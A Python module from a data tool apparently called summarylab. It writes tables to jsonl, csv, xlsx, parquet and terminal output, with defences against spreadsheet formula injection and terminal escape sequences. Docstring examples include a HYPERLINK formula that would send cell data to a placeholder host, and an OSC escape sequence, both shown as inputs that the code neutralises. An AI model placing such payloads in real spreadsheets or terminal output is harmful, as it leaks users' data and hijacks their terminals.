"""Write summarylab tables to files and terminals: jsonl, csv, xlsx, parquet, rich.

Every CLI command ends in :func:`write_table` (files and pipes) or
:func:`render_table` (the rich table a person reads on a terminal), so all
commands format their output the same way.  The formats follow DESIGN.md:

* ``jsonl``: one JSON object per row with exactly the DataFrame's columns,
  UTF-8 (Chinese is not ``\\u``-escaped), NaN as ``null``, lists as lists;
  control characters are ``\\u``-escaped, so the stream cannot drive a terminal.
* ``csv``: UTF-8 with a byte-order mark, so that Excel shows Chinese; list
  cells are JSON arrays so that they survive a round trip.
* ``xlsx``: Chinese column headers (:data:`summarylab.model.CHINESE_HEADERS`)
  and Chinese values of coded columns (:data:`summarylab.model.VALUE_LABELS`:
  目标, 多于, 已完成), a sheet named after the table, a frozen header row and
  column widths that count CJK characters double.
* ``parquet``: pyarrow, list columns kept as Parquet lists.

Data formats (jsonl, csv, parquet) keep the codes (``target``, ``more_than``).

Document text is never live in a spreadsheet: a text cell starting with
``= + - @``, a tab or a carriage return gets a leading ``'`` in csv and xlsx
(OWASP's advice against formula injection), and xlsx never holds a formula
cell.  Characters XML cannot carry (U+FFFF, C0 controls) are dropped from xlsx.
Every file is written to a temporary file beside it and moved into place, so a
failed export leaves the old file as it was.

pandas, openpyxl, pyarrow and rich are imported inside the functions: the CLI
imports this module at start-up and ``summarylab --help`` must stay fast.
"""

from __future__ import annotations

import contextlib
import json
import math
import os
import re
import tempfile
import unicodedata
from pathlib import Path
from typing import TYPE_CHECKING, Any, Iterable, Iterator, Mapping, Optional, TextIO, Union

from .model import CHINESE_HEADERS, chinese_value

if TYPE_CHECKING:  # imported lazily at run time
    import pandas as pd
    from rich.table import Table

#: Output formats that :func:`write_table` writes (``table`` is :func:`render_table`).
FILE_FORMATS = ("jsonl", "csv", "xlsx", "parquet")
#: Every value of the CLI's shared ``--format`` option.
FORMATS = ("table",) + FILE_FORMATS
#: Formats that can go to a text stream such as stdout.
STREAM_FORMATS = ("jsonl", "csv")

_SUFFIXES = {
    ".jsonl": "jsonl", ".ndjson": "jsonl", ".csv": "csv", ".xlsx": "xlsx",
    ".parquet": "parquet", ".pq": "parquet",
}

#: Rich styles of the check verdicts (the colours a person learns once).
VERDICT_STYLES = {
    "delivered": "green", "partial": "yellow", "not_found": "red", "not_due": "dim",
}
#: Fill colours of the verdicts in xlsx and html (light, so black text stays legible).
VERDICT_FILLS = {
    "delivered": "C6EFCE", "partial": "FFEB9C", "not_found": "FFC7CE", "not_due": "E7E6E6",
}

#: Widest column of an xlsx sheet, in display cells: long sentences wrap instead.
MAX_XLSX_WIDTH = 60
# XML 1.0 cannot hold the C0 controls other than tab, LF and CR, lone
# surrogates, U+FFFE and U+FFFF: one of them makes the whole workbook unreadable.
_ILLEGAL_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
# What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Controls that drive a terminal (ESC starts CSI/OSC sequences; U+009B is CSI
# itself): everything in C0 but tab and LF, DEL, and C1.
_TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_JSON_UNSAFE = re.compile("[\x7f-\x9f\u2028\u2029]")


class ExportError(ValueError):
    """A table cannot be written as asked (unknown format, binary format to a stream)."""


def format_for(path: Union[str, Path, None], fmt: Optional[str] = None) -> str:
    """The output format: ``fmt`` when given, else the one the file suffix names.

    Args:
        path: The output file, or None for a stream.
        fmt: An explicit format (one of :data:`FILE_FORMATS`), or None.

    Returns:
        The format name.

    Raises:
        ExportError: The format is unknown, or cannot be told from the suffix.

    Example:
        >>> format_for("facts.xlsx")
        'xlsx'
        >>> format_for(None, "jsonl")
        'jsonl'
    """
    if fmt is not None:
        fmt = fmt.lower()
        if fmt not in FILE_FORMATS:
            raise ExportError(
                f"unknown format {fmt!r}: use one of {', '.join(FILE_FORMATS)}"
            )
        return fmt
    if path is None:
        raise ExportError("no output format: give a format or a file name")
    suffix = Path(path).suffix.lower()
    if suffix not in _SUFFIXES:
        raise ExportError(
            f"{path}: cannot tell the format from the suffix {suffix or '(none)'!r}; "
            f"use .jsonl, .csv, .xlsx or .parquet"
        )
    return _SUFFIXES[suffix]


def write_table(
    df: "pd.DataFrame",
    path: Union[str, Path, None] = None,
    *,
    fmt: Optional[str] = None,
    stream: Optional[TextIO] = None,
    sheet: Optional[str] = None,
) -> None:
    """Write one table to a file or a text stream.

    Args:
        df: The table; its columns (in order) are the columns written.
        path: The output file.  Its suffix gives the format when ``fmt`` is None.
        fmt: ``jsonl``, ``csv``, ``xlsx`` or ``parquet``.
        stream: A text stream (e.g. ``sys.stdout``) to write to instead of a
            file; only for ``jsonl`` and ``csv``.
        sheet: The sheet name of an xlsx file (default: named after the
            table, e.g. ``数值事实`` for facts; see :func:`sheet_name`).

    Raises:
        ExportError: Unknown format, neither or both of path and stream, or a
            binary format (xlsx, parquet) asked for on a stream.

    Example:
        >>> import io, pandas as pd
        >>> out = io.StringIO()
        >>> write_table(pd.DataFrame({"indicator": ["培训人数"], "value": [400.0]}),
        ...             fmt="jsonl", stream=out)
        >>> out.getvalue()
        '{"indicator": "培训人数", "value": 400.0}\\n'
    """
    if (path is None) == (stream is None):
        raise ExportError("write_table needs exactly one of path and stream")
    fmt = format_for(path, fmt)
    if stream is not None:
        if fmt not in STREAM_FORMATS:
            raise ExportError(f"{fmt} is a binary format: give an output file (-o PATH)")
        (_write_jsonl if fmt == "jsonl" else _write_csv)(df, stream)
        return
    path = Path(path)
    if fmt == "xlsx":
        write_sheets({sheet or sheet_name(df): df}, path)
    elif fmt == "parquet":
        with atomic_path(path) as tmp:
            _write_parquet(df, tmp)
    else:
        with atomic_path(path) as tmp:
            # newline="" so that csv's own \r\n line ends are not doubled on Windows.
            with open(tmp, "w", encoding="utf-8", newline="") as fh:
                (_write_jsonl if fmt == "jsonl" else _write_csv)(df, fh)


@contextlib.contextmanager
def atomic_path(path: Union[str, Path]) -> Iterator[Path]:
    """A temporary path beside ``path`` that replaces it when the block succeeds.

    The new file appears whole or not at all: a failure (a full disk, a value
    that cannot be written, Ctrl-C) leaves the old file untouched and removes
    the temporary one.

    Example:
        >>> with atomic_path("/tmp/out.csv") as tmp:
        ...     _ = tmp.write_text("a,b\\n", encoding="utf-8")
    """
    path = Path(path)
    fd, name = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent or ".")
    os.close(fd)
    tmp = Path(name)
    try:
        yield tmp
        if path.exists():
            # Keep the permissions of the file being replaced (mkstemp makes 0600).
            os.chmod(tmp, path.stat().st_mode & 0o7777)
        else:
            umask = os.umask(0)
            os.umask(umask)
            os.chmod(tmp, 0o666 & ~umask)
        os.replace(tmp, path)
    finally:
        if tmp.exists():
            tmp.unlink()


def sheet_name(df: "pd.DataFrame") -> str:
    """The name of the sheet a table goes to: what the table holds, in Chinese.

    Example:
        >>> import pandas as pd
        >>> sheet_name(pd.DataFrame(columns=["fact_id", "surface"]))
        '数值事实'
    """
    columns = set(map(str, df.columns))
    for needed, name in _SHEET_NAMES:
        if needed <= columns:
            return name
    return "数据"


_SHEET_NAMES = (
    ({"fact_id", "surface"}, "数值事实"), ({"verdict", "commitment"}, "计划核对"),
    ({"value_a", "value_b"}, "年度对比"), ({"item_id", "commitments"}, "工作计划"),
    ({"section_id", "marker"}, "提纲"), ({"claim", "computed"}, "自我核对"),
    ({"surface", "reason"}, "跳过的候选"), ({"doc_id", "chars"}, "文档"),
)


def visible(text: str) -> str:
    """``text`` with the characters that drive a terminal made visible, one for one.

    C0 controls become their Unicode pictures (ESC is ␛), DEL ␡, and C1
    controls U+FFFD, so that an OSC or CSI sequence in a document prints as
    text instead of setting the clipboard or the window title.  Tab and line
    ends stay; offsets do not move.

    Example:
        >>> visible("标题\\x1b]0;pwned\\x07正文")
        '标题␛]0;pwned␇正文'
    """
    return _TERMINAL_CONTROL.sub(_picture, text)


def _picture(match: re.Match) -> str:
    code = ord(match.group())
    return chr(0x2400 + code) if code < 0x20 else "\u2421" if code == 0x7F else "\ufffd"


def defuse(text: str) -> str:
    """A text cell a spreadsheet cannot run: a leading ``'`` before ``= + - @``, tab or CR.

    Example:
        >>> print(defuse('=HYPERLINK("http://x.example/?d="&A1,"点击")'))
        '=HYPERLINK("http://x.example/?d="&A1,"点击")
        >>> defuse("-3%")
        "'-3%"
        >>> defuse("培训妇女400人")
        '培训妇女400人'
    """
    return "'" + text if text.startswith(_FORMULA_START) else text


def write_sheets(
    sheets: Mapping[str, "pd.DataFrame"],
    path: Union[str, Path],
    *,
    chinese_labels: bool = True,
) -> None:
    """Write several tables into one xlsx workbook, one sheet each.

    Each sheet has Chinese column headers, a frozen header row, an autofilter
    and column widths that count CJK characters as two cells.  A ``verdict``
    column is filled with the verdict colours (:data:`VERDICT_FILLS`).

    Args:
        sheets: Sheet name -> table, in the order the sheets should appear.
            Excel limits sheet names to 31 characters.
        path: The .xlsx file to write.
        chinese_labels: Show coded values in Chinese (已完成, 目标, 多于,
            主要工作 …; :data:`summarylab.model.VALUE_LABELS`), as every
            Chinese-headed export does; False keeps the codes.

    Example:
        >>> import pandas as pd
        >>> write_sheets({"事实": pd.DataFrame({"indicator": ["培训人数"]})},
        ...              "/tmp/facts.xlsx")
    """
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font, PatternFill

    wb = Workbook()
    wb.remove(wb.active)
    bold = Font(bold=True)
    fills = {k: PatternFill("solid", start_color=v, end_color=v) for k, v in VERDICT_FILLS.items()}
    for name, df in sheets.items():
        ws = wb.create_sheet(title=_sheet_title(name))
        columns = [str(c) for c in df.columns]
        ws.append([CHINESE_HEADERS.get(c, c) for c in columns])
        for cell in ws[1]:
            cell.font = bold
        widths = [_display_width(CHINESE_HEADERS.get(c, c)) for c in columns]
        verdict_col = columns.index("verdict") if "verdict" in columns else None
        for row in df.itertuples(index=False, name=None):
            raw = list(row)
            values = [_xlsx_value(v, c, chinese_labels) for v, c in zip(raw, columns)]
            ws.append(values)
            for i, v in enumerate(values):
                if v is not None:
                    widths[i] = max(widths[i], _display_width(str(v)))
            if verdict_col is not None and raw[verdict_col] in fills:
                ws.cell(row=ws.max_row, column=verdict_col + 1).fill = fills[raw[verdict_col]]
        for i, width in enumerate(widths, start=1):
            letter = ws.cell(row=1, column=i).column_letter
            ws.column_dimensions[letter].width = min(width, MAX_XLSX_WIDTH) + 2
            if width > MAX_XLSX_WIDTH:
                # Long sentences wrap inside their capped column instead of running on.
                for (cell,) in ws.iter_rows(min_row=2, min_col=i, max_col=i):
                    cell.alignment = Alignment(wrap_text=True, vertical="top")
        ws.freeze_panes = "A2"
        if columns:
            ws.auto_filter.ref = ws.dimensions
    if not wb.sheetnames:
        wb.create_sheet("数据")
    with atomic_path(path) as tmp:
        wb.save(tmp)


def render_table(
    df: "pd.DataFrame",
    *,
    title: Optional[str] = None,
    columns: Optional[Iterable[str]] = None,
) -> "Table":
    """Build the rich table a person reads on a terminal.

    Missing values show as empty cells, whole floats without ``.0``, lists
    joined with ``；``.  A ``verdict`` column is coloured (delivered green,
    partial yellow, not_found red, not_due dim).

    Args:
        df: The table.
        title: A title shown above the table.
        columns: The columns to show, in order (default: all of them).

    Returns:
        A :class:`rich.table.Table`; print it with a rich Console.

    Example:
        >>> import pandas as pd
        >>> from rich.console import Console
        >>> t = render_table(pd.DataFrame({"verdict": ["delivered"]}), title="核对")
        >>> Console(width=40, color_system=None).print(t)  # doctest: +SKIP
    """
    from rich.table import Table
    from rich.text import Text

    cols = list(df.columns) if columns is None else list(columns)
    missing = [c for c in cols if c not in df.columns]
    if missing:
        raise ExportError(f"no such column: {', '.join(missing)}")
    table = Table(title=title, show_lines=False)
    numeric = {c for c in cols if _is_numeric(df[c])}
    for c in cols:
        # Numbers never wrap (a folded figure misreads); text folds to fit.
        table.add_column(str(c), justify="right" if c in numeric else "left",
                         overflow="fold", no_wrap=c in numeric)
    for row in df[cols].itertuples(index=False, name=None):
        cells = []
        for c, v in zip(cols, row):
            text = _cell_text(v, grouped=c in _MEASURED)
            style = VERDICT_STYLES.get(v, "") if c == "verdict" and isinstance(v, str) else ""
            cells.append(Text(text, style=style))
        table.add_row(*cells)
    return table


def to_records(df: "pd.DataFrame") -> list[dict[str, Any]]:
    """The rows of ``df`` as plain JSON-ready dicts (what jsonl writes, one per line).

    NaN, NaT and pd.NA become None, numpy scalars Python scalars, numpy arrays
    lists; lists stay lists.

    Example:
        >>> import pandas as pd
        >>> to_records(pd.DataFrame({"value": [1.5, float("nan")]}))
        [{'value': 1.5}, {'value': None}]
    """
    columns = [str(c) for c in df.columns]
    return [
        {c: _plain(v) for c, v in zip(columns, row)}
        for row in df.itertuples(index=False, name=None)
    ]


# --- formats -----------------------------------------------------------------

def _write_jsonl(df: "pd.DataFrame", fh: TextIO) -> None:
    for record in to_records(df):
        line = json.dumps(record, ensure_ascii=False, allow_nan=False)
        # json escapes C0 itself; C1 (U+009B is a terminal's CSI) and the
        # Unicode line separators are escaped here: still the same JSON.
        fh.write(_JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", line))
        fh.write("\n")


def _write_csv(df: "pd.DataFrame", fh: TextIO) -> None:
    import csv

    # The BOM tells Excel the file is UTF-8; without it Chinese shows as mojibake.
    fh.write("\ufeff")
    writer = csv.writer(fh, lineterminator="\r\n")
    writer.writerow([str(c) for c in df.columns])
    for record in to_records(df):
        writer.writerow([_csv_value(v) for v in record.values()])


def _write_parquet(df: "pd.DataFrame", path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    columns = {str(c): [_plain(v) for v in df[c]] for c in df.columns}
    table = pa.table(columns) if columns else pa.table({})
    pq.write_table(table, path)


# --- values ------------------------------------------------------------------

def _plain(value: Any) -> Any:
    """A JSON-ready Python value: None for missing, lists for arrays."""
    if value is None:
        return None
    if isinstance(value, (list, tuple)):
        return [_plain(v) for v in value]
    if hasattr(value, "tolist") and not isinstance(value, (str, bytes)):
        # numpy scalars and arrays (lists read back from parquet or duckdb)
        return _plain(value.tolist()) if getattr(value, "ndim", 0) else _plain(value.item())
    if isinstance(value, float):
        return None if math.isnan(value) or math.isinf(value) else value
    if isinstance(value, (str, bool, int)):
        return value
    if hasattr(value, "isoformat"):
        try:
            import pandas as pd

            if pd.isna(value):
                return None
        except (TypeError, ValueError):
            pass
        return value.isoformat()
    try:
        import pandas as pd

        if pd.isna(value):
            return None
    except (TypeError, ValueError):
        pass
    return str(value)


def _csv_value(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, list):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, str):
        # Escapes made visible: a csv on stdout reaches a terminal.
        return defuse(visible(value))
    return value


def _xlsx_value(value: Any, column: str, chinese_labels: bool) -> Any:
    value = _plain(value)
    if isinstance(value, list):
        value = "；".join("" if v is None else str(v) for v in value)
    if chinese_labels and not isinstance(value, list):
        value = chinese_value(column, value)
    if isinstance(value, str):
        value = defuse(_ILLEGAL_XLSX.sub("", value))
    return value


#: Columns holding measured amounts: on screen they get thousands separators
#: (56,900,000,000,000 reads, 56900000000000 does not); ids, years and offsets do not.
_MEASURED = frozenset({"value", "value_max", "base_value", "value_a", "value_b", "change",
                       "target", "actual"})


def _cell_text(value: Any, *, grouped: bool = False) -> str:
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, list):
        return "；".join(_cell_text(v) for v in value)
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, (int, float)) and grouped and abs(value) >= 10000:
        return f"{value:,.0f}" if float(value).is_integer() else f"{value:,.10g}"
    if isinstance(value, float):
        return str(int(value)) if value.is_integer() and abs(value) < 1e15 else f"{value:.10g}"
    return visible(str(value))


def _is_numeric(series: "pd.Series") -> bool:
    import pandas as pd

    return pd.api.types.is_numeric_dtype(series) and not pd.api.types.is_bool_dtype(series)


def _display_width(text: str) -> int:
    """Display cells of the longest line of ``text``: CJK (wide, fullwidth) count two."""
    best = 0
    for line in text.split("\n"):
        best = max(best, sum(
            2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1 for ch in line
        ))
    return best


def _sheet_title(name: str) -> str:
    # Excel forbids []:*?/\ in sheet names and allows at most 31 characters.
    return re.sub(r"[\[\]:*?/\\]", "_", _ILLEGAL_XLSX.sub("", name))[:31] or "数据"
